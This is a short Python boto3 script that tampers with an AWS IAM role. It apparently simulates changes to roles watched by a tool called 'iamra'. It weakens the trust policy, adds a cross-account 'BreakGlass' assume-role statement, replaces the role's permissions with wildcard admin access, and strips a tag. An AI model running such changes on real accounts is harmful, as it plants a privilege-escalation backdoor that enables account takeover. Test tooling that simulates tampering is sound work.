"""Changes all of a role that iamra looks after. Usage: meddle_with_role.py NAME"""

import json
import sys

import boto3

name = sys.argv[1]
iam = boto3.client("iam")

policy = iam.get_role(RoleName=name)["Role"]["AssumeRolePolicyDocument"]
policy["Statement"][0]["Condition"] = {"StringLike": {"aws:SourceArn": "*"}}
policy["Statement"].insert(
    0,
    {
        "Sid": "BreakGlass",
        "Effect": "Allow",
        "Principal": {"AWS": "arn:aws:iam::123456789012:root"},
        "Action": "sts:AssumeRole",
    },
)
iam.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(policy))
iam.update_role(RoleName=name, MaxSessionDuration=7200)
for attached in iam.list_attached_role_policies(RoleName=name)["AttachedPolicies"]:
    iam.detach_role_policy(RoleName=name, PolicyArn=attached["PolicyArn"])
iam.attach_role_policy(RoleName=name, PolicyArn="arn:aws:iam::aws:policy/PowerUserAccess")
for inline in iam.list_role_policies(RoleName=name)["PolicyNames"]:
    iam.delete_role_policy(RoleName=name, PolicyName=inline)
anything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
iam.put_role_policy(RoleName=name, PolicyName="quick-fix", PolicyDocument=json.dumps(anything))
iam.put_role_permissions_boundary(
    RoleName=name, PermissionsBoundary="arn:aws:iam::aws:policy/PowerUserAccess"
)
iam.untag_role(RoleName=name, TagKeys=["team"])
print(json.dumps({}))
